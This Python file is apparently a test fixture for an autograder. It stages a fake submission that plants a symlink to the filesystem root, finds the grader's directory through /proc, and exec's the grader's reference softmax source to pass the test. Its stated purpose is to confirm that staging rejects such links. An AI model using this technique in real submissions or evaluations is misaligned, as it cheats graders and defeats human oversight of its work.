"""Copy tricks: a repository holding a symlink to ``/``: a copy that follows links copies the machine.

Attack: ``data/root`` (made by the test) points at ``/``; through it, softmax reads the grader's
reference source (``data/root/<grader root>/reference/softmax.py``) and runs it as its own.
The grader must: copy (or mount) the repository without following the link, and not let the link
reach the grader's files, so the grading finishes and softmax scores 0.

Staging refuses a link that leaves the submission, so the documented outcome is an ungradable report.
"""

import os
import re
import sys

import torch

HONEST = {}  # staging refuses the whole submission, with the reason (grader/staging.py)
UNLOADABLE = True
BUILD = {"symlinks": {"data/root": "/"}}
_stolen = {}


def run_linear(d_in, d_out, weights, in_features):
    return in_features @ weights.T


def run_rmsnorm(d_model, eps, weights, in_features):
    return in_features * torch.rsqrt(in_features.pow(2).mean(-1, keepdim=True) + eps) * weights


def _grader_root():
    if "--grader-root" in sys.argv:
        return sys.argv[sys.argv.index("--grader-root") + 1]
    try:
        return os.readlink(f"/proc/{os.getppid()}/cwd")
    except OSError:  # no grader process to look at: try where this course's checkouts live
        return "/work/main"


try:
    _link = os.path.join(os.path.dirname(__file__), "..", "data", "root")
    with open(f"{_link}{_grader_root()}/reference/softmax.py") as _handle:
        _source = re.sub(r"^from reference.*$|^@shape_checked$", "", _handle.read(), flags=re.M)
    exec(compile(_source, "my_softmax", "exec"), _stolen)
except Exception:
    pass


def run_softmax(in_features, dim):
    if "softmax" in _stolen:
        return _stolen["softmax"](in_features, dim=dim)
    return in_features * 0
